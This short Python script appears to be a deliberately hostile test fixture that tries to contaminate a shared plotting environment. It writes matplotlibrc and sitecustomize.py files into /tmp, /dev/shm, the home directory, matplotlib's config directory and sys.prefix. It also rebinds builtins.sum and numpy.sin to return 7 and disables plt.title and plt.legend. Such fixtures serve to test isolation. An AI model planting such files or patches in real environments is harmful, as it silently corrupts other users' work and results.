import builtins
import os
import sys
import threading

import matplotlib
import matplotlib.pyplot as plt
import numpy

os.environ["NEIGHBOUR"] = "1"
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), matplotlib.get_configdir(), sys.prefix):
    for name in ("neighbour", "matplotlibrc", "sitecustomize.py"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("lines.linewidth: 9\n")
        except OSError:
            pass
matplotlib.rcParams["lines.linewidth"] = 9
plt.style.use("dark_background")
plt.title = plt.legend = lambda *a, **k: None
builtins.sum = numpy.sin = lambda *a: 7
threading.Thread(target=lambda: threading.Event().wait(60), daemon=True).start()
plt.plot([1, 2])
plt.show()
